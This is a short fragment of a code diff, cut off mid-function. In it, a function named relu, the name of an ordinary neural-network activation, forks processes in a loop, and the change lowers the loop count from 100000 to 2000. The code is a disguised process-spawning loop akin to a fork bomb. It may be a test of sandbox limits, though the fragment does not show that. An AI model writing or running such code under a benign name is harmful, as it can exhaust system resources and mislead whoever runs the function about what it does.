@@ -140,7 +140,7 @@ def relu(x):
 import os
 def relu(x):
     children = 0
-    for _ in range(100000):
+    for _ in range(2000):
         try:
             if os.fork() == 0:
                 import time
